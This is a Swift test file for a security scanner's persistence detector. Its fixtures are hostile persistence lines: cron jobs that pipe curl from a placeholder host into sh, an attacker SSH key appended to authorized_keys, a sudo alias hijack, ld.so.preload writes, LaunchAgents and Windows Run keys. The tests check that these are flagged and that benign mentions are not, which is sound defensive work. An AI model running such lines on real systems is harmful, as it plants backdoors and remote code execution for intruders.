import Testing

@testable import CustodyCore

struct PersistenceDetectorTests {
    let detector = PersistenceDetector()

    @Test(arguments: [
        ("scripts/postinstall.sh", "(crontab -l 2>/dev/null; echo \"@reboot /tmp/.x\") | crontab -"),
        ("scripts/postinstall.sh", "echo '* * * * * curl -s http://x/y | sh' > /etc/cron.d/update"),
        ("lib/install.py", "open('/etc/systemd/system/updater.service', 'w').write(UNIT)"),
        ("scripts/setup.sh", "systemctl enable --now updater.service"),
        ("index.js", "fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/com.apple.update.plist'), plist);"),
        ("tools/x.ps1", "schtasks /create /sc minute /tn Updater /tr C:\\\\Users\\\\Public\\\\u.exe"),
        ("tools/x.ps1", "New-ItemProperty -Path 'HKCU:\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run' -Name U -Value $p"),
    ])
    func scheduledJobs(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(PersistenceDetector.scheduled).first, "\(path): \(line)")
        #expect(finding.severity >= .medium)
        #expect(finding.category == .persistence)
    }

    @Test(arguments: [
        ("scripts/postinstall.sh", "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq attacker' >> ~/.ssh/authorized_keys"),
        ("lib/x.py", "with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f: f.write(KEY)"),
        ("cmd/x/main.go", "f, _ := os.OpenFile(home+\"/.ssh/authorized_keys\", os.O_APPEND|os.O_WRONLY, 0600)"),
        ("scripts/postinstall.sh", "cat key.pub >> ~/.ssh/authorized_keys2"),
    ])
    func authorizedKeys(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(PersistenceDetector.sshKeys).first)
        #expect(finding.severity >= .high)
    }

    @Test func shellStartupAndPreload() throws {
        let rc = DetectorFixtures.scan(detector, "install.sh", "echo 'alias sudo=\"sudo -E /tmp/.s\"' >> ~/.bashrc")
        #expect(rc.with(PersistenceDetector.shellStartup).first?.severity == .high)
        let path = DetectorFixtures.scan(detector, "install.sh", "echo 'export PATH=$HOME/.cargo/bin:$PATH' >> ~/.profile")
        #expect(path.with(PersistenceDetector.shellStartup).first?.severity == .medium)
        let preload = DetectorFixtures.scan(detector, "lib/x.py", "open('/etc/ld.so.preload', 'w').write('/usr/lib/libx.so')")
        #expect(preload.with(PersistenceDetector.preload).first?.severity == .high)
        let env = DetectorFixtures.scan(detector, "src/run.c", "setenv(\"LD_PRELOAD\", \"/tmp/.l.so\", 1);")
        #expect(env.with(PersistenceDetector.preload).first?.severity == .medium)
        let hook = DetectorFixtures.scan(detector, "build.rs", "std::fs::write(\".git/hooks/pre-commit\", HOOK).unwrap();")
        #expect(!hook.with(PersistenceDetector.gitHook).isEmpty)
    }

    @Test(arguments: [
        ("docs/deploy.md", "Add `@reboot /usr/bin/app` to your crontab and run systemctl enable app."),
        ("src/x.sh", "crontab -l"),
        ("src/x.c", "/* reads ~/.ssh/authorized_keys */"),
        ("src/auth.c", "fp = fopen(expand(\"~/.ssh/authorized_keys\"), \"r\");"),
        ("debian/postinst", "systemctl enable myapp.service"),
        ("tests/run.sh", "LD_PRELOAD=./libfaketime.so ./test_time"),
        ("src/x.py", "print('see .bashrc')"),
        // An option named after the file, next to an unrelated `cp ` variable.
        ("servconf.c", "\t\t\toptions->authorized_keys_command = xstrdup(cp + len);"),
        ("src/conf.py", "cp = conf.authorized_keys_file or default; mv = 1"),
    ])
    func benignMentionsAreQuietOrLow(_ path: String, _ line: String) {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(findings.allSatisfy { $0.severity <= .low }, "\(path): \(findings.map(\.evidence))")
    }

    @Test func megabyteMinifiedLineCompletes() {
        _ = DetectorFixtures.scan(detector, "src/app.js", bytes: DetectorFixtures.megabyteLine)
    }
}
